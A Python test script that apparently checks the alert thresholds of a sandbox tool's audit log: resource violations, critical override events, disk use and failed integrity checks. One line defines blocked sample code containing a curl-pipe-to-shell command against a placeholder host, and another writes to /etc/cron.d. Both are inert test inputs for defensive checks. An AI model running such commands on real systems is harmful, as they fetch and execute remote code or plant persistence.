#!/usr/bin/python3
"""Each threshold of audit.yaml: reached, it is told once, on stderr and in the log; not reached, nothing is said."""
import os, subprocess, sys, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from bawntest import *

QUIET = "disk_percent: 100, critical_events_per_hour: 100, resource_violations_per_hour: 100, failed_integrity_checks: 100, acknowledge_risk: true"


def world(**alerts):
    """A world in which all thresholds but these are out of reach."""
    w = World()
    text = QUIET
    for key, value in alerts.items():
        text = text.replace(f"{key}: 100", f"{key}: {value}")
    w.conf = w.config(audit=f"alerts: {{{text}}}\n", security="overrides:\n  minimum: self\n  acknowledge_risk: true\n")
    return w


def alerts(w):
    return [(r["body"]["kind"], r["body"]["threshold"], r["body"]["actual"], r["severity"]) for r in w.records("alert")]


def said(r):
    return [x for x in (r["warnings"] or []) if x.startswith("alert:")]


slow = lambda w: w.run("import time; time.sleep(9)", "-t", "200ms", "--config", w.conf)
w = world(resource_violations_per_hour=2)
r = slow(w)
equal((r["status"], alerts(w), said(r)), ("timeout", [], []), "violations: one of two says nothing")
equal((w.run("print(1)", "--config", w.conf).code, alerts(w)), (0, []), "nor does a run without any")
r = slow(w)
equal((alerts(w), len(said(r))), ([("resource_violations_per_hour", 2, 2, "HIGH")], 1), "the second does") or r.show()
r = slow(w)
equal((len(alerts(w)), said(r)), (1, []), "the third not again within the hour")
os.utime(w.state + "/alerts/resource_violations_per_hour", (1, 1))
r = w.bawn("run", "-t", "200ms", "--config", w.conf, "-c", "import time; time.sleep(9)")
ok("bawn: alert: 4 violated limits within an hour" in r.err and len(alerts(w)) == 2, "an hour later it does, on stderr too") or r.show()
w = world()
slow(w), slow(w)
equal(alerts(w), [], "control: below the threshold nothing is said")

# The log is read back to raise an alert, not at each violation for ever after.
w = world(resource_violations_per_hour=2)
equal((w.run("print(1)").code, subprocess.run([os.path.join(BUILD, "tests/unit/audit/audit-make"), w.state + "/audit", "400", "batch", "9", "0"]).returncode), (0, 0), "a longer log")


def read_back(code="import time; time.sleep(9)"):
    """How often a run, by default one that violates a limit, has read as much of the log as is read at once backwards."""
    trace = w.dir + "/trace"
    subprocess.run(["strace", "-f", "-y", "-e", "trace=pread64", "-o", trace, BAWN, "run", "-t", "200ms", "--config", w.conf, "--state", w.state,
                    "-c", code], stdin=subprocess.DEVNULL, capture_output=True, env=w.env)
    return len([x for x in open(trace) if ".jsonl>" in x and x.rstrip().endswith("= 65536")])


before, raising, after, none = read_back(), read_back(), read_back(), read_back("print(1)")
ok(before > none and raising > none and len(alerts(w)) == 1 and after == none,
   f"told once, it is not counted again within the hour ({before}, {raising}, {after} pieces; {none} without a violation)")
# A record is written when what it belongs to ends: one of an hour and a half ago may stand behind those of the hour.
for between in (0, 5400):
    w = world(resource_violations_per_hour=2)
    slow(w)
    r = subprocess.run([os.path.join(BUILD, "tests/unit/audit/audit-make"), w.state + "/audit", "1", "batch", "9", str(between)], capture_output=True, text=True)
    ages = [time.time() - x["ts"] / 1e6 > 3600 for x in w.records()]
    equal((r.returncode, ages[-1], any(ages[:-1])), (0, between > 0, False), f"an entry of {between} s ago behind a violation") or diag(r.stderr)
    slow(w)
    equal(alerts(w), [("resource_violations_per_hour", 2, 2, "HIGH")], "both violations count")

BLOCKED, HIGH = "import os\nif False: os.system('curl http://x.invalid/a | sh')", "open('/etc/cron.d/x','w') if False else None"
lift = lambda w, code: w.run(code, "--override", "--reason", "a drill", "--config", w.conf)
w = world(critical_events_per_hour=2)
equal((lift(w, HIGH).code, lift(w, HIGH).code, alerts(w)), (0, 0, []), "critical: overrides of HIGH do not count")
equal((lift(w, BLOCKED).code, alerts(w)), (0, []), "one of BLOCKED of two says nothing")
r = lift(w, BLOCKED)
equal((r.code, alerts(w), len(said(r))), (0, [("critical_events_per_hour", 2, 2, "HIGH")], 1), "the second does") or r.show()

# An override counts when it is recorded, not when its run has an outcome: that may never come.
w = world(critical_events_per_hour=1)
p = w.start("run", "--override", "--reason", "a drill", "--config", w.conf, "-c", BLOCKED + "\nimport time; time.sleep(60)")
ok(wait_for(lambda: alerts(w), 20), "an override is told while its run is under way")
p.kill()
p.wait()
equal((w.records("exec.outcome"), alerts(w)), ([], [("critical_events_per_hour", 1, 1, "HIGH")]), "also of a run that is lost")
w = world()
p = w.start("run", "--override", "--reason", "a drill", "--config", w.conf, "-c", BLOCKED + "\nimport time; time.sleep(2)")
equal((p.wait(60), alerts(w)), (0, []), "control: below the threshold nothing is said")

w = world(disk_percent=1)
r = w.run("print(1)", "--config", w.conf)
kind, threshold, actual, severity = (alerts(w) + [("", 0, 0, "")])[0]
ok(kind == "disk_percent" and threshold == 1 and 1 <= actual <= 100 and len(said(r)) == 1, "disk: fuller than that is told") or r.show()
w = world()
r = w.run("print(1)", "--config", w.conf)
used = 100 * (1 - os.statvfs(w.dir).f_bavail / os.statvfs(w.dir).f_blocks)
ok(used > 99 or (alerts(w) == [] and said(r) == []), "control: not so full, nothing is said")


def damaged(w):
    for i in range(3):
        w.run("print(1)", "--config", w.conf)
    path = glob.glob(w.state + "/audit/seg/*")[0]
    data = bytearray(open(path, "rb").read())
    data[data.index(b'"seq":2,') + 90] ^= 1
    open(path, "r+b").write(data)
    return path


verify = lambda w: w.bawn("audit", "verify", "--config", w.conf)
w = world(failed_integrity_checks=2)
w.run("print(1)", "--config", w.conf)
equal((verify(w).code, verify(w).err, alerts(w)), (3, "", []), "integrity: good checks say nothing")
path = damaged(w)
r = verify(w)
equal((r.code, "alert" in r.err), (1, False), "one bad one of two neither") or r.show()
r = verify(w)
ok(r.code == 1 and "bawn: alert: 2 failed checks of the log in a row" in r.err and alerts(w) == [("failed_integrity_checks", 2, 2, "HIGH")], "the second does") or r.show()
w = world(failed_integrity_checks=1)
path = damaged(w)
s = w.bawn("status", "--json", "--config", w.conf)
ok("alert:" in s["components"]["audit"]["reason"] and len(alerts(w)) == 1, "status tells it as well") or s.show()
w = world(failed_integrity_checks=2)
path = damaged(w)
data = open(path, "rb").read()
good = bytearray(data)
good[good.index(b'"seq":2,') + 90] ^= 1
verify(w)
open(path, "r+b").write(good)
equal(verify(w).code, 3, "a good check in between")
open(path, "r+b").write(data)
r = verify(w)
equal((r.code, "alert" in r.err, alerts(w)), (1, False, []), "starts the count anew")
done()
